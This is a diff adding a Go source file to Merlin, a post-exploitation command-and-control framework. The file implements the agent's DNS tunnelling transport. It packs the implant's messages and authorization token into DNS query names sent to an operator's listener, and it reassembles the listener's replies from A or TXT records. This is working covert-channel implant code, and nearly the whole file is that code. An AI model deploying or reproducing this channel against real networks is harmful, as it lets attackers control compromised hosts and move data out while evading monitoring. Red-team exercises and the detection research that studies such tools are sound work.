@@ -0,0 +1,305 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"context"
+	cryptorand "crypto/rand"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"net/url"
+	"strconv"
+	"strings"
+	"time"
+
+	// 3rd Party
+	"golang.org/x/net/dns/dnsmessage"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/dnstunnel"
+	"github.com/Ne0nd0g/merlin/pkg/util"
+)
+
+// dnsRetries is the number of times a single DNS query is attempted before the message fails
+const dnsRetries = 3
+
+// dnsTransport is a http.RoundTripper that sends the agent's messages to a Merlin DNS listener in DNS queries. The
+// request URL is dns://<domain> to query through the host's resolver or dns://<resolver[:port]>/<domain> to query a
+// specific resolver. The type query parameter, txt or a, must match the listener's record type and the chunk query
+// parameter limits the number of message bytes sent in one query.
+type dnsTransport struct{}
+
+// RoundTrip uploads the request body in DNS queries and downloads the server's response from the record answers
+func (t *dnsTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	server, domain, recordType, chunk, err := parseDNSURL(req.URL)
+	if err != nil {
+		return nil, err
+	}
+	var body []byte
+	if req.Body != nil {
+		body, err = ioutil.ReadAll(req.Body)
+		_ = req.Body.Close()
+		if err != nil {
+			return nil, fmt.Errorf("there was an error reading the message body:\r\n%s", err.Error())
+		}
+	}
+	data := dnstunnel.Pack(req.Header.Get("Authorization"), body)
+	if len(data) > dnstunnel.MaxLength {
+		return nil, fmt.Errorf("the %d byte message is too large for the DNS transport", len(data))
+	}
+
+	id := make([]byte, 4)
+	if _, err = cryptorand.Read(id); err != nil {
+		return nil, fmt.Errorf("there was an error generating the DNS session:\r\n%s", err.Error())
+	}
+	session := hex.EncodeToString(id)
+	var chunks, length int
+	complete := false
+	for _, name := range dnstunnel.UploadNames(session, data, domain, chunk) {
+		records, err := dnsQueryA(req.Context(), server, name)
+		if err != nil {
+			return nil, err
+		}
+		complete, chunks, length, err = dnstunnel.ParseAck(records)
+		if err != nil {
+			return nil, err
+		}
+	}
+	if !complete {
+		return nil, fmt.Errorf("the DNS listener did not acknowledge the complete message")
+	}
+
+	response := make([]byte, 0, length)
+	for i := 0; i < chunks; i++ {
+		name := dnstunnel.DownloadName(session, i, domain)
+		if recordType == "a" {
+			records, err := dnsQueryA(req.Context(), server, name)
+			if err != nil {
+				return nil, err
+			}
+			response = append(response, dnstunnel.UnpackA(records)...)
+			continue
+		}
+		txt, err := dnsQueryTXT(req.Context(), server, name)
+		if err != nil {
+			return nil, err
+		}
+		b, err := dnstunnel.UnpackTXT(txt)
+		if err != nil {
+			return nil, fmt.Errorf("there was an error decoding the TXT record for %s:\r\n%s", name, err.Error())
+		}
+		response = append(response, b...)
+	}
+	if len(response) < length {
+		return nil, fmt.Errorf("the DNS listener returned %d of %d response bytes", len(response), length)
+	}
+	response = response[:length]
+
+	return &http.Response{
+		Status:        "200 OK",
+		StatusCode:    http.StatusOK,
+		Proto:         "DNS",
+		Header:        http.Header{"Content-Type": []string{"application/octet-stream"}},
+		Body:          ioutil.NopCloser(bytes.NewReader(response)),
+		ContentLength: int64(len(response)),
+		Request:       req,
+	}, nil
+}
+
+// parseDNSURL returns the resolver, which is empty for the host's resolver, the domain, record type, and upload chunk
+// size from a dns:// URL
+func parseDNSURL(u *url.URL) (string, string, string, int, error) {
+	server, domain := "", u.Host
+	if path := strings.Trim(u.Path, "/"); path != "" {
+		server, domain = u.Host, path
+		if _, _, err := net.SplitHostPort(server); err != nil {
+			server = util.JoinHostPort(server, "53")
+		}
+	}
+	if domain == "" {
+		return "", "", "", 0, fmt.Errorf("the DNS URL %s does not contain a domain", u.String())
+	}
+	recordType := strings.ToLower(u.Query().Get("type"))
+	if recordType == "" {
+		recordType = "txt"
+	}
+	if recordType != "txt" && recordType != "a" {
+		return "", "", "", 0, fmt.Errorf("%s is not a valid DNS record type; use txt or a", recordType)
+	}
+	var chunk int
+	if c := u.Query().Get("chunk"); c != "" {
+		var err error
+		chunk, err = strconv.Atoi(c)
+		if err != nil {
+			return "", "", "", 0, fmt.Errorf("%s is not a valid DNS chunk size:\r\n%s", c, err.Error())
+		}
+	}
+	return server, domain, recordType, chunk, nil
+}
+
+// dnsQueryA returns the A records for the name from the resolver, or the host's resolver if it is empty
+func dnsQueryA(ctx context.Context, server string, name string) ([][4]byte, error) {
+	var records [][4]byte
+	if server != "" {
+		msg, err := dnsExchange(ctx, server, name, dnsmessage.TypeA)
+		if err != nil {
+			return nil, err
+		}
+		for _, answer := range msg.Answers {
+			if a, ok := answer.Body.(*dnsmessage.AResource); ok {
+				records = append(records, a.A)
+			}
+		}
+		return records, nil
+	}
+	var err error
+	for i := 0; i < dnsRetries; i++ {
+		var addrs []net.IPAddr
+		addrs, err = net.DefaultResolver.LookupIPAddr(ctx, name)
+		if err != nil {
+			continue
+		}
+		for _, addr := range addrs {
+			if ip := addr.IP.To4(); ip != nil {
+				records = append(records, [4]byte{ip[0], ip[1], ip[2], ip[3]})
+			}
+		}
+		return records, nil
+	}
+	return nil, fmt.Errorf("there was an error querying the A record for %s:\r\n%s", name, err.Error())
+}
+
+// dnsQueryTXT returns the TXT record strings for the name from the resolver, or the host's resolver if it is empty
+func dnsQueryTXT(ctx context.Context, server string, name string) ([]string, error) {
+	if server != "" {
+		msg, err := dnsExchange(ctx, server, name, dnsmessage.TypeTXT)
+		if err != nil {
+			return nil, err
+		}
+		var txt []string
+		for _, answer := range msg.Answers {
+			if t, ok := answer.Body.(*dnsmessage.TXTResource); ok {
+				txt = append(txt, t.TXT...)
+			}
+		}
+		return txt, nil
+	}
+	var err error
+	for i := 0; i < dnsRetries; i++ {
+		var txt []string
+		txt, err = net.DefaultResolver.LookupTXT(ctx, name)
+		if err == nil {
+			return txt, nil
+		}
+	}
+	return nil, fmt.Errorf("there was an error querying the TXT record for %s:\r\n%s", name, err.Error())
+}
+
+// dnsExchange sends the query to the resolver over UDP, retrying over TCP when the answer is truncated
+func dnsExchange(ctx context.Context, server string, name string, qtype dnsmessage.Type) (dnsmessage.Message, error) {
+	var msg dnsmessage.Message
+	n, err := dnsmessage.NewName(name + ".")
+	if err != nil {
+		return msg, fmt.Errorf("there was an error building the DNS query for %s:\r\n%s", name, err.Error())
+	}
+	b := make([]byte, 2)
+	if _, err = cryptorand.Read(b); err != nil {
+		return msg, fmt.Errorf("there was an error generating the DNS query ID:\r\n%s", err.Error())
+	}
+	id := binary.BigEndian.Uint16(b)
+	query := dnsmessage.Message{
+		Header:    dnsmessage.Header{ID: id, RecursionDesired: true},
+		Questions: []dnsmessage.Question{{Name: n, Type: qtype, Class: dnsmessage.ClassINET}},
+	}
+	packed, err := query.Pack()
+	if err != nil {
+		return msg, fmt.Errorf("there was an error building the DNS query for %s:\r\n%s", name, err.Error())
+	}
+
+	network := "udp"
+	for i := 0; i < dnsRetries; i++ {
+		var response []byte
+		response, err = dnsSend(ctx, network, server, packed)
+		if err != nil {
+			continue
+		}
+		if err = msg.Unpack(response); err != nil {
+			continue
+		}
+		if msg.Header.ID != id {
+			err = fmt.Errorf("the DNS response ID %d does not match the query ID %d", msg.Header.ID, id)
+			continue
+		}
+		if msg.Header.Truncated && network == "udp" {
+			network = "tcp"
+			i--
+			continue
+		}
+		if msg.Header.RCode != dnsmessage.RCodeSuccess {
+			return msg, fmt.Errorf("the DNS query for %s returned %s", name, msg.Header.RCode.String())
+		}
+		return msg, nil
+	}
+	return msg, fmt.Errorf("there was an error querying %s for %s:\r\n%s", server, name, err.Error())
+}
+
+// dnsSend sends a packed DNS query over the network, udp or tcp, and returns the packed response
+func dnsSend(ctx context.Context, network string, server string, query []byte) ([]byte, error) {
+	d := net.Dialer{Timeout: 5 * time.Second}
+	conn, err := d.DialContext(ctx, network, server)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close() // #nosec G307
+	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
+
+	if network == "udp" {
+		if _, err = conn.Write(query); err != nil {
+			return nil, err
+		}
+		response := make([]byte, 65535)
+		n, err := conn.Read(response)
+		if err != nil {
+			return nil, err
+		}
+		return response[:n], nil
+	}
+
+	if err = binary.Write(conn, binary.BigEndian, uint16(len(query))); err != nil {
+		return nil, err
+	}
+	if _, err = conn.Write(query); err != nil {
+		return nil, err
+	}
+	var length uint16
+	if err = binary.Read(conn, binary.BigEndian, &length); err != nil {
+		return nil, err
+	}
+	response := make([]byte, length)
+	if _, err = io.ReadFull(conn, response); err != nil {
+		return nil, err
+	}
+	return response, nil
+}